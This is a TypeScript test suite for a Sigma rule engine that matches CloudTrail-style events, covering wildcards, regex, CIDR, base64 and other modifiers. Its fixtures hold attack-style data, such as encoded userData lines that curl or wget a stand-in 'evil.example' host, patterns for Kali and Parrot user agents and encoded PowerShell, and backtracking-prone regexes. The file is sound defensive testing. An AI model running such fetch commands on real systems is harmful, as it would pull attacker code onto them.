import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { requiredLiteral } from './field-condition.js';
import { ruleOf } from './rule-of.test-data.js';

const sel = (selection: unknown) => ruleOf({ selection, condition: 'selection' });
const rec = (fields: Record<string, unknown>) => ({
  eventTime: '2026-01-01T00:00:00Z',
  eventSource: 'x',
  eventName: 'Y',
  ...fields,
});

describe('Sigma values', () => {
  it('match case-insensitively unless cased', () => {
    assert.equal(sel({ eventName: 'stoplogging' }).matches(rec({ eventName: 'StopLogging' })), true);
    assert.equal(sel({ 'eventName|cased': 'stoplogging' }).matches(rec({ eventName: 'StopLogging' })), false);
    assert.equal(sel({ 'eventName|cased': 'StopLogging' }).matches(rec({ eventName: 'StopLogging' })), true);
    assert.equal(sel({ eventName: 'StopLogging' }).matches(rec({ eventName: 'StopLoggingX' })), false);
  });
  it('honour * and ? wildcards and their escapes', () => {
    const star = sel({ userAgent: 'aws-cli/*Linux*' });
    assert.equal(star.matches(rec({ userAgent: 'AWS-CLI/2.1 python Linux/6' })), true);
    assert.equal(star.matches(rec({ userAgent: 'boto3/1.0 Linux' })), false);
    const one = sel({ userName: 'adm?n' });
    assert.equal(one.matches(rec({ userName: 'admin' })), true);
    assert.equal(one.matches(rec({ userName: 'admiin' })), false);
    const literalStar = sel({ userName: 'a\\*b' });
    assert.equal(literalStar.matches(rec({ userName: 'a*b' })), true);
    assert.equal(literalStar.matches(rec({ userName: 'axxb' })), false);
    const literalQ = sel({ userName: 'why\\?' });
    assert.equal(literalQ.matches(rec({ userName: 'why?' })), true);
    assert.equal(literalQ.matches(rec({ userName: 'whyX' })), false);
    // `\\` is one backslash, and a backslash before another character stays a backslash.
    assert.equal(sel({ path: 'C:\\\\temp' }).matches(rec({ path: 'C:\\temp' })), true);
    assert.equal(sel({ path: 'C:\\temp' }).matches(rec({ path: 'C:\\temp' })), true);
    // A regex metacharacter in a wildcard pattern is literal.
    assert.equal(sel({ userName: 'a.c*' }).matches(rec({ userName: 'abcd' })), false);
    assert.equal(sel({ userName: 'a.c*' }).matches(rec({ userName: 'a.cd' })), true);
  });
  it('treat a list of values as OR, and as AND with |all', () => {
    const any = sel({ eventName: ['A', 'B'] });
    assert.equal(any.matches(rec({ eventName: 'B' })), true);
    assert.equal(any.matches(rec({ eventName: 'C' })), false);
    const all = sel({ 'userAgent|contains|all': ['curl', 'kali'] });
    assert.equal(all.matches(rec({ userAgent: 'curl/8 (kali linux)' })), true);
    assert.equal(all.matches(rec({ userAgent: 'curl/8 (ubuntu)' })), false);
  });
  it('matches null against a missing or null field only', () => {
    const rule = sel({ errorCode: null });
    assert.equal(rule.matches(rec({})), true);
    assert.equal(rule.matches(rec({ errorCode: null })), true);
    assert.equal(rule.matches(rec({ errorCode: 'AccessDenied' })), false);
  });
  it('compares numbers and booleans with the record sensibly', () => {
    assert.equal(
      sel({ 'requestParameters.enable': 'false' }).matches(rec({ requestParameters: { enable: false } })),
      true,
    );
    assert.equal(
      sel({ 'requestParameters.enable': false }).matches(rec({ requestParameters: { enable: 'false' } })),
      true,
    );
    assert.equal(
      sel({ 'requestParameters.enable': false }).matches(rec({ requestParameters: { enable: true } })),
      false,
    );
    assert.equal(
      sel({ 'requestParameters.port': 22 }).matches(rec({ requestParameters: { port: '22' } })),
      true,
    );
    assert.equal(
      sel({ 'requestParameters.port': 22 }).matches(rec({ requestParameters: { port: 220 } })),
      false,
    );
  });
  it('walk dotted paths into nested objects and lists (any element)', () => {
    const rule = sel({ 'requestParameters.ipPermissions.items.ipRanges.items.cidrIp': '0.0.0.0/0' });
    const open = {
      ipPermissions: {
        items: [{ ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }, { cidrIp: '0.0.0.0/0' }] } }],
      },
    };
    const closed = { ipPermissions: { items: [{ ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }] } }] } };
    assert.equal(rule.matches(rec({ requestParameters: open })), true);
    assert.equal(rule.matches(rec({ requestParameters: closed })), false);
    assert.equal(rule.matches(rec({ requestParameters: null })), false);
    assert.equal(
      sel({ 'resources.ARN|endswith': ':trail/main' }).matches(
        rec({ resources: [{ ARN: 'a' }, { ARN: 'arn:x:trail/main' }] }),
      ),
      true,
    );
  });
  it('searches an object field through its JSON and its nested strings', () => {
    const rule = sel({ 'requestParameters|contains': '"s3:GetObject"' });
    assert.equal(
      rule.matches(rec({ requestParameters: { policyDocument: '{"Action":"s3:GetObject"}' } })),
      true,
    );
    assert.equal(
      sel({ 'requestParameters|contains': 'Suspended' }).matches(
        rec({ requestParameters: { VersioningConfiguration: { Status: 'Suspended' } } }),
      ),
      true,
    );
    assert.equal(
      sel({ 'requestParameters|contains': 'Suspended' }).matches(
        rec({ requestParameters: { VersioningConfiguration: { Status: 'Enabled' } } }),
      ),
      false,
    );
  });
});

describe('Sigma modifiers', () => {
  it('contains, startswith, endswith', () => {
    assert.equal(
      sel({ 'userAgent|contains': 'KALI' }).matches(rec({ userAgent: 'aws-cli kali-linux' })),
      true,
    );
    assert.equal(sel({ 'userAgent|startswith': 'aws-cli' }).matches(rec({ userAgent: 'AWS-CLI/2' })), true);
    assert.equal(sel({ 'userAgent|startswith': 'aws-cli' }).matches(rec({ userAgent: 'x aws-cli' })), false);
    assert.equal(sel({ 'userAgent|endswith': 'parrot' }).matches(rec({ userAgent: 'boto Parrot' })), true);
    assert.equal(sel({ 'userAgent|endswith': 'parrot' }).matches(rec({ userAgent: 'parrot os' })), false);
  });
  it('re with i, m and s, on the linear-time engine', () => {
    assert.equal(
      sel({ 'userAgent|re': '^Boto3/1\\.\\d+' }).matches(rec({ userAgent: 'Boto3/1.34 x' })),
      true,
    );
    assert.equal(
      sel({ 'userAgent|re': '^boto3' }).matches(rec({ userAgent: 'Boto3/1.34' })),
      false,
      're is case-sensitive',
    );
    assert.equal(sel({ 'userAgent|re|i': '^boto3' }).matches(rec({ userAgent: 'Boto3/1.34' })), true);
    assert.equal(sel({ 'msg|re': '^b$' }).matches(rec({ msg: 'a\nb\nc' })), false);
    assert.equal(sel({ 'msg|re|m': '^b$' }).matches(rec({ msg: 'a\nb\nc' })), true);
    assert.equal(sel({ 'msg|re': 'a.b' }).matches(rec({ msg: 'a\nb' })), false);
    assert.equal(sel({ 'msg|re|s': 'a.b' }).matches(rec({ msg: 'a\nb' })), true);
  });
  it('a hostile regular expression finishes fast on a long attacker string', () => {
    const rule = sel({ 'userAgent|re': '(a+)+$', 'eventName|re': '^(x+x+)+y$' });
    const hostile = rec({ userAgent: `${'a'.repeat(100_000)}!`, eventName: 'x'.repeat(50_000) });
    const started = performance.now();
    assert.equal(rule.matches(hostile), false);
    assert.ok(performance.now() - started < 2000, `took ${performance.now() - started} ms`);
  });
  it('cidr for IPv4 and IPv6, ignoring what is not an address', () => {
    const v4 = sel({ 'sourceIPAddress|cidr': ['10.0.0.0/8', '192.168.0.0/16'] });
    assert.equal(v4.matches(rec({ sourceIPAddress: '10.1.2.3' })), true);
    assert.equal(v4.matches(rec({ sourceIPAddress: '11.1.2.3' })), false);
    assert.equal(v4.matches(rec({ sourceIPAddress: 'AWS Internal' })), false);
    assert.equal(v4.matches(rec({ sourceIPAddress: 'ec2.amazonaws.com' })), false);
    const v6 = sel({ 'sourceIPAddress|cidr': '2001:db8::/32' });
    assert.equal(v6.matches(rec({ sourceIPAddress: '2001:db8:1::5' })), true);
    assert.equal(v6.matches(rec({ sourceIPAddress: '2001:db9::5' })), false);
    assert.equal(v6.matches(rec({ sourceIPAddress: '10.0.0.1' })), false);
  });
  it('exists true and false', () => {
    assert.equal(sel({ 'errorCode|exists': true }).matches(rec({ errorCode: 'X' })), true);
    assert.equal(sel({ 'errorCode|exists': true }).matches(rec({})), false);
    assert.equal(sel({ 'errorCode|exists': false }).matches(rec({})), true);
    assert.equal(sel({ 'errorCode|exists': false }).matches(rec({ errorCode: 'X' })), false);
  });
  it('gt, gte, lt, lte on numbers and numeric strings', () => {
    const r = (n: unknown) => rec({ requestParameters: { maxResults: n } });
    assert.equal(sel({ 'requestParameters.maxResults|gt': 100 }).matches(r(101)), true);
    assert.equal(sel({ 'requestParameters.maxResults|gt': 100 }).matches(r(100)), false);
    assert.equal(sel({ 'requestParameters.maxResults|gte': 100 }).matches(r('100')), true);
    assert.equal(sel({ 'requestParameters.maxResults|lt': 5 }).matches(r(4)), true);
    assert.equal(sel({ 'requestParameters.maxResults|lte': 5 }).matches(r(6)), false);
    assert.equal(sel({ 'requestParameters.maxResults|lt': 5 }).matches(r('lots')), false);
  });
  it('fieldref compares two fields of the same record', () => {
    const rule = sel({ 'userIdentity.userName|fieldref': 'requestParameters.userName' });
    assert.equal(
      rule.matches(rec({ userIdentity: { userName: 'Bob' }, requestParameters: { userName: 'bob' } })),
      true,
    );
    assert.equal(
      rule.matches(rec({ userIdentity: { userName: 'bob' }, requestParameters: { userName: 'eve' } })),
      false,
    );
    assert.equal(rule.matches(rec({ userIdentity: { userName: 'bob' } })), false);
    const arn = sel({ 'userIdentity.arn|fieldref|endswith': 'requestParameters.userName' });
    assert.equal(
      arn.matches(
        rec({ userIdentity: { arn: 'arn:aws:iam::1:user/bob' }, requestParameters: { userName: 'bob' } }),
      ),
      true,
    );
  });
  it('neq matches a present field with another value', () => {
    const rule = sel({ 'awsRegion|neq': 'us-east-1' });
    assert.equal(rule.matches(rec({ awsRegion: 'ap-south-1' })), true);
    assert.equal(rule.matches(rec({ awsRegion: 'US-EAST-1' })), false);
    assert.equal(rule.matches(rec({})), false);
  });
  it('base64 and base64offset (with contains), utf16le', () => {
    const encoded = Buffer.from('curl http://evil').toString('base64');
    assert.equal(
      sel({ 'requestParameters.userData|base64': 'curl http://evil' }).matches(
        rec({ requestParameters: { userData: encoded } }),
      ),
      true,
    );
    const rule = sel({ 'requestParameters.userData|base64offset|contains': 'http://evil' });
    for (const prefix of ['', 'a', 'ab', 'abc', '#!/bin/sh\nwget ']) {
      const data = Buffer.from(`${prefix}http://evil.example/x`).toString('base64');
      assert.equal(
        rule.matches(rec({ requestParameters: { userData: data } })),
        true,
        `offset ${prefix.length}`,
      );
    }
    const benign = Buffer.from('#!/bin/sh\nyum update -y').toString('base64');
    assert.equal(rule.matches(rec({ requestParameters: { userData: benign } })), false);
    const wide = Buffer.from(Buffer.from('cmd', 'utf16le')).toString('base64');
    assert.equal(sel({ 'x|utf16le|base64': 'cmd' }).matches(rec({ x: wide })), true);
    assert.equal(
      sel({ 'x|wide|base64': 'cmd' }).matches(rec({ x: Buffer.from('cmd').toString('base64') })),
      false,
    );
  });
  it('windash covers dash spellings', () => {
    const rule = sel({ 'cmd|windash|contains': ' -enc ' });
    assert.equal(rule.matches(rec({ cmd: 'powershell /enc AAA' })), true);
    assert.equal(rule.matches(rec({ cmd: 'powershell \u2013enc AAA' })), true);
    assert.equal(rule.matches(rec({ cmd: 'powershell enc AAA' })), false);
  });
  it('keywords search every value of the record', () => {
    const rule = ruleOf({ keywords: ['kali', 'parrot'], condition: 'keywords' });
    assert.equal(rule.matches(rec({ userAgent: 'aws-cli (Kali GNU/Linux)' })), true);
    assert.equal(rule.matches(rec({ requestParameters: { note: 'parrot os' } })), true);
    assert.equal(rule.matches(rec({ userAgent: 'aws-cli (Ubuntu)' })), false);
  });
});

describe('regular-expression literal prefilter', () => {
  it('finds a run every match must contain, and nothing when unsure', () => {
    assert.equal(requiredLiteral('.+:assumed-role/aws:.+'), ':assumed-role/aws:');
    assert.equal(requiredLiteral('^Boto3/1'), 'Boto3/1');
    assert.equal(requiredLiteral('abcd?ef'), 'abc');
    assert.equal(requiredLiteral('ab{0,2}cdef'), 'cdef');
    assert.equal(requiredLiteral('kali|parrot'), undefined);
    assert.equal(requiredLiteral('(kali)'), undefined);
    assert.equal(requiredLiteral('\\d+abc'), undefined);
    assert.equal(requiredLiteral('a.b'), undefined);
  });
  it('keeps the rule exact (case-insensitive flag honoured)', () => {
    const rule = sel({ 'userIdentity.arn|re': '.+:assumed-role/aws:.+' });
    assert.equal(
      rule.matches(rec({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } })),
      true,
    );
    assert.equal(rule.matches(rec({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/web/i-1' } })), false);
    const caseless = sel({ 'userAgent|re|i': 'KALI-linux' });
    assert.equal(caseless.matches(rec({ userAgent: 'x kali-Linux y' })), true);
  });
});

describe('regular-expression literal prefilter and Unicode case folding', () => {
  it('does not lose a match RE2 finds through case folding', () => {
    const rule = sel({ 'userAgent|re|i': 'kali-linux' });
    assert.equal(rule.matches(rec({ userAgent: '\u212Aali-linux' })), true, 'Kelvin sign');
    const s = sel({ 'userAgent|re|i': 'parrot-os' });
    assert.equal(s.matches(rec({ userAgent: 'parrot-o\u017f' })), true, 'long s');
  });
});
